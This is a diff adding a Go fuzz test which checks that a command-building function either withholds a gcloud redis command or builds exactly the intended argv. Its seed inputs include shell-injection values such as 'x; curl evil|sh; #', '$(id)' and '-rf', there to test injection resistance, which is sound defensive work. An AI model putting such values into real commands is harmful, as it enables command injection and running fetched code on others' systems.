@@ -208,3 +208,25 @@ func TestCommand(t *testing.T) {
 		t.Errorf("a withheld command must not carry the command: %q", bad)
 	}
 }
+
+// FuzzCommand: whatever the values, Command either withholds the command or builds one
+// that parses as exactly the intended argv.
+func FuzzCommand(f *testing.F) {
+	for _, s := range []string{"my-redis", "x; curl evil|sh; #", "$(id)", "`id`", "a\nb", "\x1b[31m", "-rf", "a'b", ""} {
+		f.Add(s, "us-central1")
+	}
+	f.Fuzz(func(t *testing.T, name, region string) {
+		cmd := Command("gcloud redis instances describe %s --region %s --port %d", name, region, 6379)
+		if value, withheld := Withheld(cmd); withheld {
+			if IsName(name) && IsName(region) {
+				t.Fatalf("withheld %q although both values are names", value)
+			}
+			return
+		}
+		argv := parseArgv(t, cmd)
+		want := []string{"gcloud", "redis", "instances", "describe", name, "--region", region, "--port", "6379"}
+		if strings.Join(argv, "\x00") != strings.Join(want, "\x00") {
+			t.Fatalf("Command(%q, %q) parses as %q", name, region, argv)
+		}
+	})
+}
